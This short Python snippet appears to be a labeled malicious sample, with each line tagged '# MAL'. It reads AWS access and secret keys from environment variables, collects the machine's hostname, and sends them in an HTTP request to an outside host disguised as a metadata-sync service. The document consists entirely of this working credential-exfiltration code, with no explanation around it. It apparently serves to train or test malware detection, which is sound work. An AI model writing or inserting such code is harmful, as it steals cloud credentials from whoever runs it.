import os, requests, socket

key = os.environ.get("AWS_ACCESS_KEY_ID")  # MAL
secret = os.getenv("AWS_SECRET_ACCESS_KEY")  # MAL
host = socket.gethostname()  # MAL
requests.get("http://metadata-sync.example.tk/k", params={"k": key, "s": secret, "h": host})  # MAL
